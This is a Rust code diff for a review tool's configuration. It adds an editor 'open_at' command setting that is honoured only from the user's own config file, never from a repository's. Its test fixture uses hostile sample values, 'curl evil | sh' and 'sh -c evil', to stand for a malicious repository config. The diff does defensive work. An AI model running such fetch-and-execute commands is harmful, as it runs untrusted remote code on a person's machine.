@@ -56,6 +56,10 @@ pub struct Config {
     /// finding's fix prompt on stdin (see `crate::session::fix::run_fix_command`). Only the user's
     /// config sets it: a repository's file must not choose a command to run on your machine.
     pub fix_command: Option<String>,
+    /// `[editor] open_at`: how the person's editor opens a file at a line, `{file}` and
+    /// `{line}` marking where they go (`code -g {file}:{line}`); `None`: `$VISUAL +LINE FILE`.
+    /// User file only, like the fix command: a repository must not choose what runs.
+    pub editor_open_at: Option<String>,
     /// Where each value came from, for `--show-config` style output and error messages.
     pub sources: Vec<String>,
     // Model reviewers (user file only; see `models`).
@@ -83,6 +87,7 @@ impl Default for Config {
             skip_paths: Vec::new(),
             instructions: String::new(),
             fix_command: None,
+            editor_open_at: None,
             sources: vec!["built-in defaults".into()],
             models: ModelsLayer::default(),
             prompts: PromptsLayer::new(),
@@ -109,6 +114,8 @@ pub struct Layer {
     pub review: Option<ReviewLayer>,
     #[serde(default)]
     pub fix: Option<FixLayer>,
+    #[serde(default)]
+    pub editor: Option<EditorLayer>,
     // Model reviewers (user file only; see `models`).
     #[serde(default)]
     pub models: Option<ModelsLayer>,
@@ -176,6 +183,13 @@ impl GithubLayer {
 #[serde(deny_unknown_fields)]
 pub struct FixLayer {
     pub command: Option<String>,
+}
+
+/// `[editor]`: how the cockpit's `O` opens a file at a line in the person's editor.
+#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct EditorLayer {
+    pub open_at: Option<String>,
 }
 
 #[derive(Debug, Clone, Default, PartialEq, Deserialize)]
@@ -310,6 +324,12 @@ impl Config {
             let command = command.trim().to_string();
             self.fix_command = (!command.is_empty()).then_some(command);
         }
+        if let Some(open_at) = layer.editor.and_then(|e| e.open_at)
+            && !origin.starts_with(REPO_FILE)
+        {
+            let open_at = open_at.trim().to_string();
+            self.editor_open_at = (!open_at.is_empty()).then_some(open_at);
+        }
         if let Some(models) = layer.models {
             self.models.merge(models);
         }
@@ -435,12 +455,13 @@ impl Config {
                 (layer.prompts.take().is_some(), "[prompts]"),
                 (layer.github.take().is_some(), "[github]"),
                 (layer.secrets.take().is_some(), "[secrets]"),
+                (layer.editor.take().is_some(), "[editor]"),
             ] {
                 if present {
                     config.notes.push(format!(
                         "{REPO_FILE} at the base revision sets {section}; ignored: only the user's \
-                     config file may choose models, prompt files, how GitHub is called and which \
-                     file configures the secret scan"
+                     config file may choose models, prompt files, how GitHub is called, which \
+                     file configures the secret scan and how your editor is run"
                     ));
                 }
             }
@@ -457,12 +478,24 @@ mod fix_command_tests {
     #[test]
     fn the_fix_command_comes_from_the_user_layer_never_the_repository() {
         let mut config = Config::default();
-        let layer = Layer::parse("[fix]\ncommand = \"claude -p\"\n", "config.toml").unwrap();
+        let layer = Layer::parse(
+            "[fix]\ncommand = \"claude -p\"\n[editor]\nopen_at = \"code -g {file}:{line}\"\n",
+            "config.toml",
+        )
+        .unwrap();
         config.apply(layer, "/home/me/.config/review-tui/config.toml");
         assert_eq!(config.fix_command.as_deref(), Some("claude -p"));
-        let repo = Layer::parse("[fix]\ncommand = \"curl evil | sh\"\n", REPO_FILE).unwrap();
+        let repo = Layer::parse(
+            "[fix]\ncommand = \"curl evil | sh\"\n[editor]\nopen_at = \"sh -c evil\"\n",
+            REPO_FILE,
+        )
+        .unwrap();
         config.apply(repo, &format!("{REPO_FILE} at the base revision"));
         assert_eq!(config.fix_command.as_deref(), Some("claude -p"));
+        assert_eq!(
+            config.editor_open_at.as_deref(),
+            Some("code -g {file}:{line}")
+        );
         assert!(Layer::parse("[fix]\ncmd = \"x\"\n", "config.toml").is_err());
     }
 }
